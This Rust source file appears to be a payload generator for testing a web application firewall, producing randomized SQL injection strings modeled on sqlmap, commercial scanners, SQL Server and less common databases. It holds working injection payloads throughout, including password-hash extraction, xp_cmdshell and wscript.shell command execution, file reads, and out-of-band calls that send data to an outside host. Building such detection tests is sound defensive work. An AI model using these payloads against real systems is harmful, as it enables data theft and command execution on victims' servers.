//! SQL as tools and testers write it: the tests of sqlmap and of commercial scanners, functions that databases learnt
//! lately, SQL Server, and databases that few test for.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload};
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::tools::domain;

/// In what a server decodes: the tamper scripts that only respell, and those that encode once or twice.
const TARGETS: &[Place] = &[Place::Query, Place::Form, Place::Cookie];
const TAMPERED: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::PercentU,
    Encoding::Comment,
    Encoding::Case,
    Encoding::Whitespace,
    Encoding::Combined,
    Encoding::Base64,
];
/// What any application reads; percent escapes would stay there.
const ANYWHERE: &[Encoding] =
    &[Encoding::Plain, Encoding::Comment, Encoding::Whitespace, Encoding::JsonEscape, Encoding::Case];
/// For names of tables, which have a case where the file system has one.
const RESPELLED: &[Encoding] = &[Encoding::Plain, Encoding::Comment, Encoding::Whitespace, Encoding::JsonEscape];
/// Nobody decodes a header once more, and it holds no odd blanks.
const BUT_HEADERS: &[Place] = &[Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Multipart, Place::Xml];
/// For payloads whose case or blanks matter.
const AS_WRITTEN: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape, Encoding::DoublePercent];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("sqlmap-tests", AttackClass::Sqli, 38, sqlmap, TARGETS, TAMPERED),
    payload("sqli-scanner-arithmetic", AttackClass::Sqli, 34, scanners, BUT_HEADERS, AS_WRITTEN),
    payload("sqli-newer-functions", AttackClass::Sqli, 32, newer, Place::INPUTS, RESPELLED),
    payload("sqli-sqlserver", AttackClass::Sqli, 32, sqlserver, BUT_HEADERS, ANYWHERE),
    payload("sqli-rare-databases", AttackClass::Sqli, 30, rare, Place::INPUTS, AS_WRITTEN),
];

/// Boundaries, random numbers and marker strings of sqlmap.
fn sqlmap(rng: &mut Rng) -> Vec<u8> {
    let (n, m) = (rng.between(1000, 9999), rng.between(1000, 9999));
    let (word, other) = (rng.word("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", 4), rng.letters(4));
    let seconds = rng.pick(&[5, 5, 5, 10]);
    let (open, close) = match rng.below(7) {
        0 => (format!("{}) ", rng.below(99)), format!(" AND ({n}={n}")),
        1 => (format!("{}') ", rng.letters(3)), format!(" AND ('{word}'='{word}")),
        2 => (format!("{}' ", rng.letters(3)), format!(" AND '{word}'='{word}")),
        3 => (format!("{}%' ", rng.letters(3)), format!(" AND '{word}%'='{word}")),
        4 => (format!("{} ", rng.below(99)), format!("-- {word}")),
        5 => (format!("{}' ", rng.below(999)), format!("-- {word}")),
        _ => (format!("{})) ", rng.below(99)), format!(" AND (({m}={m}")),
    };
    let marks = |letters: &str| letters.bytes().map(|byte| format!("CHAR({byte})")).collect::<Vec<_>>().join("+");
    let pipes = |letters: &str| letters.bytes().map(|byte| format!("CHR({byte})")).collect::<Vec<_>>().join("||");
    match rng.below(13) {
        0 => format!("{open}AND {n}={m}{close}"),
        1 => format!("{open}AND {n} IN (SELECT ({}+(SELECT (CASE WHEN ({n}={n}) THEN CHAR(49) ELSE CHAR(48) END))+{})){close}", marks("qbjkq"), marks("qpxzq")),
        2 => format!("{open}AND {n}=CAST(({})||(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0 END))::text||({}) AS NUMERIC){close}", pipes("qvbpq"), pipes("qzkkq")),
        3 => format!("{open}AND {n}=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||{}||(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0 END) FROM DUAL)||{}||CHR(62))) FROM DUAL){close}", pipes("qxkvq"), pipes("qbqzq")),
        4 => format!("{open};SELECT PG_SLEEP({seconds})--").replacen(" ;", ";", 1),
        5 => format!("{open}AND {n}=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4,ALL_USERS T5){close}"),
        6 => format!("{open}ORDER BY {}-- {word}", rng.pick(&[1, 10, 8154, 6, 20])),
        7 => format!("{open}UNION ALL SELECT {}-- {word}", vec!["NULL"; rng.between(2, 18)].join(",")),
        8 => format!("-{n}{open}UNION ALL SELECT {}{}-- -", vec!["NULL,"; rng.between(1, 9)].concat(), marks("qkvzqWdbqpxxq")),
        9 => format!("(SELECT (CASE WHEN ({n}={n}) THEN {n} ELSE (SELECT {m} UNION SELECT {}) END))", m + 7),
        10 => format!("{open}AND MAKE_SET({n}={n},{m}){close}"),
        11 => format!("{} AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#", rng.below(9999)),
        _ => format!("{open}RLIKE (SELECT (CASE WHEN ({n}={n}) THEN '{other}' ELSE CHAR(40) END)){close}"),
    }
    .into_bytes()
}

/// Sums, markers and delays of AWVS, xray, AppScan, ZAP and Goby: what the page must show when SQL is evaluated.
fn scanners(rng: &mut Rng) -> Vec<u8> {
    let (n, m) = (rng.between(100, 999), rng.between(1, 99));
    let word = rng.token(8);
    let number = rng.digits(9);
    match rng.below(19) {
        0 => format!("-1 OR 3+{n}-{n}-1=0+0+0+1 -- "),
        1 => format!("-1' OR 2+{n}-{n}-1=0+0+0+1 or '{word}'='"),
        2 => format!("-1\" OR 5*5=25 AND {n}*{m}={} or \"{word}\"=\"", n * m),
        3 => format!("if(now()=sysdate(),sleep({m}),0)/*'XOR(if(now()=sysdate(),sleep({m}),0))OR'\"XOR(if(now()=sysdate(),sleep({m}),0))OR\"*/"),
        4 => format!("0'XOR(if(now()=sysdate(),sleep({m}),0))XOR'Z"),
        5 => format!("0\"XOR(if(now()=sysdate(),sleep({m}),0))XOR\"Z"),
        6 => format!("(select(0)from(select(sleep({m})))v)/*'+(select(0)from(select(sleep({m})))v)+'\"+(select(0)from(select(sleep({m})))v)+\"*/"),
        7 => format!("{word}'; waitfor delay '0:0:{m}' -- "),
        8 => format!("-5) OR {n}=(SELECT {n} FROM PG_SLEEP({m}))--"),
        9 => format!("{word}')) OR {n}=(SELECT {n} FROM PG_SLEEP({m}))--"),
        10 => format!("1'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),{m})||'"),
        11 => format!("1/**/and/**/cast(md5('{number}')as/**/int)>0"),
        12 => format!("convert(int,sys.fn_sqlvarbasetostr(HashBytes('MD5','{number}')))"),
        13 => format!("'and(select'1'from/**/cast(md5({number})as/**/int))>'0"),
        14 => format!("'and/**/extractvalue(1,concat(char(126),md5({number})))and'"),
        15 => format!("extractvalue(1,concat(char(126),md5({number})))"),
        16 => format!("{n}' and {m}=({m}) and 'gb{word}'='gb{word}"),
        17 => format!("{n} AND exists (select 7 from sysobjects where {m}<{n}) --"),
        _ => format!("\"and\"{}\"=\"{}", rng.letters(1), rng.letters(1)),
    }
    .into_bytes()
}

/// JSON operators, table values, spatial and other functions that lists of words do not know.
fn newer(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(2, 99), rng.letters(4));
    let quote = rng.pick(&["'", "", "')", "'))"]);
    let secret =
        rng.pick(&["user()", "version()", "(select authentication_string from mysql.user limit 1)", "schema()"]);
    match rng.below(19) {
        0 => format!("{n}{quote} or '{{\"{word}\":{n}}}'::jsonb <@ '{{\"{word}\":{n},\"b\":2}}'::jsonb-- "),
        1 => format!("{n}{quote} or json_extract('{{\"{word}\":{n}}}','$.{word}')={n}-- "),
        2 => format!("{n}{quote} or json_length('[1,{n}]')<=8-- "),
        3 => format!("{n}{quote} or '{{\"{word}\":{n}}}'::jsonb ? '{word}'-- "),
        4 => format!("{n}{quote} or json_value('{{\"{word}\":\"{n}\"}}','$.{word}')='{n}'-- "),
        5 => format!("{n}{quote} or json_depth('{{}}')!={n}-- "),
        6 => format!("{n}{quote} and ('{word}','',{n})<=(table information_schema.tables_extensions limit 1)-- "),
        7 => format!("-{n}{quote} union values row({n},{secret},3)-- "),
        8 => format!("-{n}{quote} union table {word}-- "),
        9 => format!("{n}{quote} and ST_LatFromGeoHash(concat(char(126),{secret},char(126)))-- "),
        10 => format!("{n}{quote} and ST_PointFromGeoHash(concat(char(126),{secret}),{n})-- "),
        11 => format!("{n}{quote} or multipoint((select*from(select*from(select {secret})a)b))-- "),
        12 => format!("{n}{quote} and (select*from(select name_const(version(),1),name_const(version(),1))a)-- "),
        13 => format!("{n}{quote} or uuid_to_bin({secret}) is null-- "),
        14 => format!("{n}{quote};handler {word} open as a;handler a read first;-- "),
        15 => format!("{n}{quote};set @a=concat('sel','ect {secret}');prepare {word} from @a;execute {word};-- "),
        16 => format!("{n}{quote} and (with {word} as (select {secret} x) select ascii(x) from {word})>{n}-- "),
        17 => format!("{n}{quote} and (select count(*) from sys.schema_table_statistics_with_buffer where table_schema=database())>{n}-- "),
        _ => format!("{n}{quote} or bin_to_uuid(rpad({secret},16,'{word}')) is not null-- "),
    }
    .into_bytes()
}

fn sqlserver(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(1, 99), rng.letters(4));
    let quote = rng.pick(&["'", "", "')"]);
    let secret = rng.pick(&[
        "@@version",
        "db_name()",
        "system_user",
        "(select top 1 name from master..sysdatabases)",
        "(select top 1 name from sysobjects where xtype='U')",
        "host_name()",
    ]);
    let away = domain(rng);
    match rng.below(15) {
        0 => format!("{n}{quote} and 1=convert(int,{secret})--"),
        1 => format!("{n}{quote} and {n}=cast({secret} as int)--"),
        2 => format!("{n}{quote} or {secret}>{n}--"),
        3 => format!("{n}{quote}+(select convert(int,{secret}))+{}", if quote.is_empty() { "0" } else { "'" }),
        4 => format!("{n}{quote} union select 1,(select name+',' from {word}..sysobjects for xml path('')),3--"),
        5 => format!("{n}{quote} and exists(select * from fn_xe_file_target_read_file('C:\\*.xel','\\\\{away}\\{word}.xem',null,null))--"),
        6 => format!("{n}{quote};declare @{word} varchar(1024);set @{word}='\\\\{away}\\a';exec master.dbo.xp_fileexist @{word}--"),
        7 => format!("{n}{quote};select * from openrowset('SQLOLEDB','server={away};uid=sa;pwd={word}','select {n}')--"),
        8 => format!("{n}{quote} union select null,bulkcolumn,null from openrowset(bulk 'C:\\Windows\\win.ini',single_clob) {word}--"),
        9 => format!("{n}{quote};declare @s int;exec sp_oacreate 'wscript.shell',@s out;exec sp_oamethod @s,'run',null,'cmd /c {word}.exe'--"),
        10 => format!("{n}{quote} group by {word}.id having {n}={n}--"),
        11 => format!("{n}{quote} and is_srvrolemember('sysadmin')={}--", n % 2),
        12 => format!("{n}{quote} and (select suser_name({n}))>0 and (select count(*) from master.dbo.sysprocesses)>{n}--"),
        13 => format!("{n}{quote};exec('xp_'+'cmdshell ''echo {word}>c:\\inetpub\\wwwroot\\{word}.txt''')--"),
        _ => format!("{n}{quote};if (ascii(substring({secret},{n},1)))>64 waitfor delay '0:0:4'--"),
    }
    .into_bytes()
}

/// Access, DB2, Informix, Firebird, ClickHouse, SAP HANA, HQL, Cypher, N1QL: what small systems and dashboards run on.
fn rare(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(2, 60), rng.letters(4));
    let away = domain(rng);
    match rng.below(17) {
        0 => format!("{n}' union select {n},name,3 from msysobjects in '\\\\{word}\\a.mdb' where '1'='1"),
        1 => format!("iif((select mid(last(username),{n},1) from (select top {n} username from admin))='a',0,'no')"),
        2 => format!("{n} and (select top 1 asc(mid(cstr(pwd),{n},1)) from admin)>64"),
        3 => format!("{n}' and {n}=(select count(*) from sysibm.systables t1,sysibm.systables t2)--"),
        4 => format!("{n}' union select versionnumber,version_timestamp,{n} from sysibm.sysversions--"),
        5 => format!("{n}' union select dbservername||'{word}',{n} from sysmaster:sysdual--"),
        6 => format!("{n}' and {n}=(select count(*) from rdb$fields t1,rdb$types t2,rdb$collations t3)--"),
        7 => format!("{n}') union all select * from url('http://{away}/{word}','CSV','a String')--"),
        8 => format!("{n}' and sleepEachRow(3)={n} or '{word}'='"),
        9 => format!("{n}' union select user_name,{n} from sys.users where '{word}'!='"),
        10 => format!("{word}' and (select count(*) from User u where u.password like '{word}%')>{n} or '1'='"),
        11 => format!("{word}' or 1=1 with 0 as a call db.labels() yield label load csv from 'http://{away}/?'+label as b return b//"),
        12 => format!("{word}'}}) return 1 as x union match (u:User) return u.password as x//{n}"),
        13 => format!("{n}' and array_length((select raw t from system:keyspaces t))>{n} and '{word}'='{word}"),
        14 => format!("{n}' union select svr_version||'{word}',{n} from v$instance where 1=1 and sf_get_schema_name_by_id(1)!='"),
        15 => format!("{n}' and substr((select rdb$get_context('SYSTEM','DB_NAME') from rdb$database),{n},1)>'a'--"),
        _ => format!("{n}'||(select bintostr(to_binary(password)) from sys.p_users_ where user_name='{word}')||'"),
    }
    .into_bytes()
}
